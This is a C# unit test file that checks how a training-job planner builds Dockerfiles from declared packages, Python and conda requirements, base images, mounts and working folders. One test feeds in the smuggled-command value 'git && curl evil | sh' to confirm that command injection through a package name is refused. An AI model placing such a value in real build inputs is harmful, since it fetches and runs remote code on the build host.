using TrainingJobs.Core.Diagnostics;
using TrainingJobs.Core.Jobs;
using TrainingJobs.Core.Planning;
using Xunit;

namespace TrainingJobs.Core.Tests.Docker;

public class ImageRecipeTests
{
    private static readonly TrainingJob s_job = new() { Name = "train", BaseDirectory = "/p", Command = JobCommand.Vector("python3", "train.py") };

    [Fact]
    public void What_is_declared_becomes_steps_in_a_fixed_order()
    {
        JobPlan plan = Plan(s_job with
        {
            SystemPackages = ["ffmpeg", "libgl1=1.6.0-1"],
            Python = new PythonRequirements { Version = "3.12", Requirements = "env/requirements.txt", Packages = ["numpy>=2", "torch; sys_platform == \"linux\""] },
        });

        Assert.Null(plan.Container?.Image);
        Assert.Equal(
            """
            # Made by TrainingJobs from what the job declares.
            FROM python:3.12-slim
            RUN apt-get update \
             && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \
                ffmpeg \
                libgl1=1.6.0-1 \
             && rm -rf /var/lib/apt/lists/*
            ARG PIP_ROOT_USER_ACTION=ignore
            ARG PIP_BREAK_SYSTEM_PACKAGES=1
            ARG PIP_DISABLE_PIP_VERSION_CHECK=1
            WORKDIR /opt/trainingjobs
            COPY requirements/ ./
            RUN ["python3", "-m", "pip", "install", "--no-cache-dir", "-r", "env/requirements.txt"]
            RUN ["python3", "-m", "pip", "install", "--no-cache-dir", "numpy>=2", "torch; sys_platform == \"linux\""]

            """.ReplaceLineEndings("\n"),
            plan.Container?.Dockerfile);
    }

    [Fact]
    public void An_image_alone_is_taken_as_it_is_and_with_packages_it_is_the_base()
    {
        JobPlan alone = Plan(s_job with { Image = "my/image:1" });
        JobPlan with = Plan(s_job with { Image = "my/image:1", SystemPackages = ["git"] });

        Assert.Equal(("my/image:1", null), (alone.Container?.Image, alone.Container?.Dockerfile));
        Assert.Null(with.Container?.Image);
        Assert.Contains("FROM my/image:1\n", with.Container?.Dockerfile);
    }

    [Fact]
    public void The_base_follows_from_what_is_declared()
    {
        Assert.Equal("python:3-slim", Plan(s_job).Container?.Image);
        Assert.Equal("python:3.10-slim", Plan(s_job with { Python = new PythonRequirements { Version = "3.10" } }).Container?.Image);
        Assert.Contains("FROM debian:bookworm-slim\n", Plan(s_job with { SystemPackages = ["python3-sklearn"] }).Container?.Dockerfile);
    }

    [Fact]
    public void Base_images_can_be_mapped()
    {
        Placement profile = Placement.Containers("docker") with { BaseImages = new Dictionary<string, string> { ["python:3-slim"] = "registry.local/python:3" } };

        Assert.Equal("registry.local/python:3", JobPlanner.Plan(s_job, JobArguments.None, profile).Plan!.Container?.Image);
    }

    [Fact]
    public void Nothing_slips_into_a_Dockerfile_that_is_no_package()
    {
        PlanResult result = JobPlanner.Plan(s_job with { SystemPackages = ["git && curl evil | sh"] }, JobArguments.None, Placement.Containers("docker"));

        Assert.Null(result.Plan);
        Assert.Contains(result.Diagnostics, d => d.Severity == DiagnosticSeverity.Error && d.Message.Contains("systemPackages", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(null, "/workspace")]
    [InlineData("src", "/workspace/src")]
    [InlineData("/p/src", "/workspace/src")]
    [InlineData("/app", "/app")]
    public void The_working_folder_is_that_of_the_container(string? folder, string expected) =>
        Assert.Equal(expected, Plan(s_job with { WorkingDirectory = folder }).Execution.Workers[0].WorkingDirectory);

    [Fact]
    public void A_working_folder_beside_the_job_is_refused() =>
        Assert.Null(JobPlanner.Plan(s_job with { WorkingDirectory = "../other" }, JobArguments.None, Placement.Containers("docker")).Plan);

    [Fact]
    public void Mounts_start_from_the_job_and_from_the_working_folder()
    {
        JobPlan plan = Plan(s_job with
        {
            WorkingDirectory = "src",
            Mounts = [new JobMount { Source = "./data", Target = "../input" }, new JobMount { Source = "volume:cache", Target = "/cache" }],
        });

        Assert.Equal(["/p/data:/workspace/input", "volume:cache:/cache"], plan.Container!.Mounts.Select(m => m.ToString()));
    }

    [Fact]
    public void A_local_plan_knows_nothing_of_containers()
    {
        JobPlan plan = JobPlanner.Plan(s_job with { Image = "x", SystemPackages = ["git"], Ports = [new JobPort { HostPort = 1, ContainerPort = 1 }] }, JobArguments.None, Placement.Local).Plan!;

        Assert.Null(plan.Container);
        Assert.Equal("/p", plan.Execution.Workers[0].WorkingDirectory);
    }

    [Fact]
    public void Packages_for_conda_come_between_those_of_the_system_and_the_requirements()
    {
        TrainingJob job = s_job with
        {
            SystemPackages = ["ffmpeg"],
            Build = new ImageBuild { Conda = ["mkl", "pytorch>=2"] },
            Python = new PythonRequirements { Version = "3.12", Requirements = "requirements.txt", Packages = ["numpy"] },
        };
        string dockerfile = Plan(job).Container?.Dockerfile!;

        string[] steps = ["FROM condaforge/miniforge3:latest\n", "    ffmpeg", "\"conda\", \"install\", \"-y\", \"python=3.12\", \"mkl\", \"pytorch>=2\"]", "\"-r\", \"requirements.txt\"]", "\"numpy\"]"];
        int[] places = [.. steps.Select(step => dockerfile.IndexOf(step, StringComparison.Ordinal))];
        Assert.DoesNotContain(-1, places);
        Assert.Equal(places.Order(), places);

        // An image that the job names has the Python that it has.
        Assert.Contains("FROM my/conda:1\nRUN apt-get", Plan(job with { Image = "my/conda:1" }).Container?.Dockerfile);
        Assert.DoesNotContain("python=3.12", Plan(job with { Image = "my/conda:1" }).Container?.Dockerfile);
    }

    private static JobPlan Plan(TrainingJob job) => JobPlanner.Plan(job, JobArguments.None, Placement.Containers("docker")).Plan!;
}
